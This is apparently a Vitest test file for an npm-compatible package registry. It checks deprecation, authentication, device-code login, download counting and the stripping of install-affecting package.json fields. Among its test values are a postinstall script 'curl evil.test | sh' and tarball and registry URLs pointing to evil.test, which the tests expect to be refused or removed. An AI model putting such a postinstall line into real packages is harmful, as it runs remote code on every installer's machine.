import { gzipSync } from 'node:zlib'
import { describeOnEngines } from '@agentgym/testkit/databases'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Database } from '../../src/core/database/database.ts'
import { decideDeviceCode, findPendingCode } from '../../src/modules/accounts/device-log-in.ts'
import { type HttpRegistry, type Json, openHttpRegistry, type Served } from './http-registry.ts'
import { packScenario, publishDocument } from './scenario-package.ts'

describeOnEngines('the npm protocol on $kind', ({ open }) => {
  let database: Database
  let registry: HttpRegistry

  beforeAll(async () => {
    database = await open()
    registry = await openHttpRegistry(database)
    await registry.publish({ name: '@acme/forms', version: '1.0.0' })
  })
  afterAll(async () => {
    await registry.close()
    await database.close()
  })

  describe('deprecation', () => {
    const name = '@acme/old'
    beforeAll(async () => {
      for (const version of ['1.0.0', '1.1.0']) await registry.publish({ name, version })
    })
    const send = async (document: unknown) =>
      registry.ask(`/${name}`, { as: 'acme', method: 'PUT', body: JSON.stringify(document) })

    it('in a package.json loses no older version and deprecates nothing (spare)', async () => {
      await registry.publish({ name, version: '1.2.0', fields: { deprecated: 'from the start' } })
      const { versions } = await registry.packument(name)
      expect(Object.keys(versions)).toEqual(['1.0.0', '1.1.0', '1.2.0'])
      expect(versions['1.2.0']).not.toHaveProperty('deprecated')
    })

    it('by npm’s document sets changed messages', async () => {
      const document = await registry.packument(name, 'acme')
      document.versions['1.0.0'].deprecated = 'use 1.1'
      expect((await send(document)).status).toBe(200)
      const { versions } = await registry.packument(name)
      expect([versions['1.0.0'].deprecated, versions['1.1.0'].deprecated]).toEqual(['use 1.1', undefined])
    })

    it('by an outdated document does not revert others’ changes', async () => {
      const [mine, theirs] = [await registry.packument(name, 'acme'), await registry.packument(name, 'acme')]
      theirs.versions['1.1.0'].deprecated = 'has a leak'
      expect((await send(theirs)).status).toBe(200)
      mine.versions['1.0.0'].deprecated = ''
      const refused = await send(mine)
      expect([refused.status, await refused.json()]).toEqual([
        409,
        expect.objectContaining({ code: 'document_outdated' }),
      ])
      expect((await registry.packument(name)).versions['1.1.0'].deprecated).toBe('has a leak')
    })

    it('by a document with missing versions is refused as an unpublish', async () => {
      const document = await registry.packument(name, 'acme')
      delete document.versions['1.0.0']
      const response = await send(document)
      expect([response.status, (await response.json()) as Json]).toEqual([
        405,
        expect.objectContaining({ error: expect.stringContaining('agentgym yank') }),
      ])
    })

    it('is for members only', async () => {
      const document = await registry.packument(name, 'mallory')
      document.versions['1.1.0'].deprecated = 'mine now'
      const body = JSON.stringify(document)
      expect((await registry.ask(`/${name}`, { as: 'mallory', method: 'PUT', body })).status).toBe(403)
      expect((await registry.ask(`/${name}`, { method: 'PUT', body })).status).toBe(401)
    })
  })

  it('the manifest outside the tarball is not served, and must match in fields that affect installation', async () => {
    const scenario = { name: '@acme/confused', version: '1.0.0' }
    const send = async (changes: Json) => {
      const document = JSON.parse(publishDocument(scenario, await packScenario(scenario)))
      Object.assign(document.versions['1.0.0'], changes)
      return registry.ask('/@acme/confused', { as: 'acme', method: 'PUT', body: JSON.stringify(document) })
    }
    for (const changes of [
      { scripts: { postinstall: 'curl evil.test | sh' } },
      { dependencies: { evil: '*' } },
      { bin: 'x.js' },
      { version: '2.0.0' },
      { name: '@acme/other' },
    ]) {
      const refused = await send(changes)
      expect([changes, refused.status, ((await refused.json()) as Json).code]).toEqual([
        changes,
        422,
        'package_manifest_mismatch',
      ])
    }
    expect((await send({ description: 'Something else', _hasShrinkwrap: true })).status).toBe(201)
    const served = (await registry.packument('@acme/confused', 'acme')).versions['1.0.0']
    expect(served.description).toBe('Balance nothing at all.')
    expect(served).not.toHaveProperty('_hasShrinkwrap')
  })

  it('unpublished versions are visible to the owner only', async () => {
    const name = '@acme/pending'
    expect((await registry.put({ name, version: '1.0.0' })).status).toBe(201)
    expect((await registry.ask(`/${name}`)).status).toBe(404)
    expect((await registry.ask(`/${name}/-/pending-1.0.0.tgz`, { as: 'mallory' })).status).toBe(404)
    expect((await registry.ask(`/${name}/-/pending-1.0.0.tgz`, { as: 'acme' })).status).toBe(200)
    await registry.pass(name, '1.0.0')
    expect((await registry.put({ name, version: '1.1.0' })).status).toBe(201)
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(['1.0.0'])
    expect(Object.keys((await registry.packument(name, 'acme')).versions)).toEqual(['1.0.0', '1.1.0'])
    expect((await registry.ask(`/${name}/-/pending-1.1.0.tgz`)).status).toBe(404)
  })

  describe('responses in npm’s format', () => {
    it.each([
      ['GET', '/-/npm/v1/attestations/@acme%2fforms@1.0.0', 404],
      ['GET', '/-/npm/v1/security/advisories/bulk', 404],
      ['GET', '/-/npm/v1/keys', 404],
      ['GET', '/-/npm/v1/user', 404],
      ['GET', '/-/package/@acme%2fforms/access', 404],
      ['GET', '/-/package/@acme%2fforms/collaborators', 404],
      ['GET', '/-/user/acme/package', 404],
      ['GET', '/-/org/acme/user', 404],
      ['GET', '/-/npm/v1/hooks', 404],
      ['GET', '/-/_view/starredByUser', 404],
      ['POST', '/-/npm/v1/oidc/token/exchange/package/@acme%2fforms', 404],
      ['GET', '/-/npm/v1/tokens', 404],
      ['GET', '/-/all', 404],
      ['GET', '/@acme/forms/-/package.json', 404],
      ['GET', '/lodash', 404],
      ['GET', '/@acme/forms/9.9.9', 404],
      ['PUT', '/-/user/org.couchdb.user:mallory', 401],
      ['GET', '/-/v1/done?code=agd_nonsense', 400],
      ['DELETE', '/-/user/token/agt_nonsense', 401],
      ['GET', '/-/user/token/agt_nonsense', 401],
      ['GET', '/-/whoami', 401],
      ['DELETE', '/@acme/forms/-rev/1-a', 405],
      ['DELETE', '/@acme/forms/-/forms-1.0.0.tgz/-rev/1-a', 405],
      ['PUT', '/@acme/forms/-rev/1-a', 405],
    ])('%s %s: %i', async (method, path, status) => {
      const response = await registry.ask(path, {
        method,
        body: method === 'GET' || method === 'DELETE' ? undefined : '{}',
      })
      expect(response.status).toBe(status)
      expect(await response.json()).toMatchObject({ error: expect.stringMatching(/\w/) })
      expect(response.headers.get('www-authenticate')).toBeNull()
    })

    it('for an invalid token', async () => {
      const response = await registry.ask('/@acme/forms', { headers: { authorization: 'Bearer agt_nonsense' } })
      expect([response.status, await response.json()]).toEqual([
        401,
        { code: 'unauthenticated', error: expect.stringContaining('The token is unknown.') },
      ])
    })

    it('for an oversized body', async () => {
      const response = await registry
        .ask('/@acme/forms', { as: 'acme', method: 'PUT', body: 'x'.repeat(32 * 2 ** 20) })
        .catch(() => undefined)
      if (response !== undefined) expect(response.status).toBe(413)
    })
  })

  it('logs in through a browser page, and out', async () => {
    const { loginUrl, doneUrl } = (await registry.json('/-/v1/login', { method: 'POST', body: '{}' })) as Record<
      string,
      string
    >
    const pending = await fetch(doneUrl)
    expect([pending.status, pending.headers.get('retry-after')]).toEqual([202, '5'])
    const code = await findPendingCode(
      registry.services.database.query,
      new URL(loginUrl).searchParams.get('user_code') ?? '',
    )
    if (code === undefined) throw new Error('the code is not there')
    await decideDeviceCode(registry.services, registry.change('').actor, code, 'approved', '127.0.0.1')
    await registry.services.database.query.updateTable('device_codes').set({ polled_at: null }).execute()
    const { token } = (await (await fetch(doneUrl)).json()) as { token: string }
    registry.tokens.set('logged in', token)
    expect(await registry.json('/-/whoami', { as: 'logged in' })).toEqual({ username: 'acme' })
    expect((await registry.ask(`/-/user/token/${token}`, { as: 'logged in', method: 'DELETE' })).status).toBe(200)
    expect((await registry.ask('/-/whoami', { as: 'logged in' })).status).toBe(401)
    expect(JSON.stringify(registry.services.logged)).not.toContain(token)
  })

  it('counts downloads: whole tarballs, and one client once', async () => {
    const name = '@acme/counted'
    await registry.publish({ name, version: '1.0.0' })
    const tarball = `/${name}/-/counted-1.0.0.tgz`
    const downloads = async () => {
      await registry.services.downloads.flush()
      const packages = registry.services.database.query.selectFrom('packages').select('downloads')
      return (await packages.where('name', '=', name).executeTakeFirstOrThrow()).downloads
    }
    await registry.ask(tarball, { method: 'HEAD' })
    await registry.packument(name)
    expect(await downloads()).toBe(0)
    for (let round = 0; round < 3; round++) await (await registry.ask(tarball)).arrayBuffer()
    expect(await downloads()).toBe(1)
  })

  it('reveals no internals', async () => {
    const response = await registry.ask('/@acme/forms')
    const body = (await response.json()) as Json
    expect(response.headers.get('x-powered-by')).toBeNull()
    expect(response.headers.get('access-control-allow-origin')).toBeNull()
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    for (const internal of ['_distfiles', '_uplinks']) expect(body).not.toHaveProperty(internal)
  })

  it('answers audits without advisories (C01)', async () => {
    const audit = (path: string, body: string | Buffer, headers: Record<string, string> = {}) =>
      registry.ask(`/-/npm/v1/security/${path}`, { method: 'POST', body: body as string, headers })
    const bulk = await audit('advisories/bulk', gzipSync('{"@acme/forms":["1.0.0"]}'), { 'content-encoding': 'gzip' })
    expect([bulk.status, await bulk.json()]).toEqual([200, {}])
    for (const path of ['audits', 'audits/quick']) {
      const old = await audit(path, '{"name":"x","requires":{},"dependencies":{}}')
      expect([old.status, await old.json()]).toMatchObject([
        200,
        { actions: [], advisories: {}, metadata: { vulnerabilities: { critical: 0 }, totalDependencies: 0 } },
      ])
    }
    const large = await audit('advisories/bulk', JSON.stringify({ x: 'y'.repeat(2 ** 20) }))
    expect([large.status, await large.json()]).toEqual([200, {}])
  })

  it('serves no field of package.json that makes a client fetch, link or run something', async () => {
    const name = '@acme/plain'
    const fields = {
      scripts: { test: 'vitest' },
      dependencies: { left: '^1.0.0' },
      peerDependencies: { right: '^1.0.0' },
      optionalDependencies: { up: '^1.0.0' },
      devDependencies: { down: '^1.0.0' },
      bundleDependencies: [],
      overrides: { left: '2' },
      publishConfig: { registry: 'https://evil.test/' },
      hasInstallScript: true,
      _hasShrinkwrap: true,
      _resolved: 'https://evil.test/x.tgz',
      gypfile: false,
      dist: { tarball: 'https://evil.test/x.tgz' },
      author: 'Acme',
      engines: { node: '>=24' },
    }
    await registry.publish({ name, version: '1.0.0', fields })
    const served = (await registry.packument(name)).versions['1.0.0']
    const known = ['_id', 'name', 'version', 'dist', 'description', 'license', 'type', 'keywords', 'agentgym']
    expect(Object.keys(served).sort()).toEqual([...known, 'author', 'engines'].sort())
    expect(Object.keys(await registry.json(`/${name}/1.0.0`)).sort()).toEqual(
      [...known, 'author', 'engines', 'readme'].sort(),
    )
    expect((served.dist as Json).tarball).toMatch(/^http:\/\/127\.0\.0\.1/)
    const accept = 'application/vnd.npm.install-v1+json'
    const short = (await registry.json(`/${name}`, { headers: { accept } })) as unknown as Served
    expect(short.versions['1.0.0'].hasInstallScript).toBe(false)
    for (const field of ['scripts', 'dependencies', '_hasShrinkwrap', 'bin'])
      expect(short.versions['1.0.0']).not.toHaveProperty(field)
  })

  it('supports conditional and HEAD requests', async () => {
    for (const path of ['/@acme/forms', '/@acme/forms/-/forms-1.0.0.tgz']) {
      const first = await registry.ask(path, { method: 'HEAD' })
      expect([path, first.status]).toEqual([path, 200])
      const again = await registry.ask(path, { headers: { 'if-none-match': first.headers.get('etag') ?? '' } })
      expect([path, again.status, await again.text()]).toEqual([path, 304, ''])
      const tag = (first.headers.get('etag') ?? '').replace(/^W\//, '')
      for (const known of [`W/${tag}`, `"other", W/${tag}`, '*']) {
        const weak = await registry.ask(path, { headers: { 'if-none-match': known } })
        expect([path, known, weak.status, await weak.text()]).toEqual([path, known, 304, ''])
      }
      for (const other of ['"other"', 'W/"other"', tag.slice(1, -1)]) {
        const whole = await registry.ask(path, { headers: { 'if-none-match': other } })
        expect([path, other, whole.status]).toEqual([path, other, 200])
        await whole.arrayBuffer()
      }
    }
  })
})
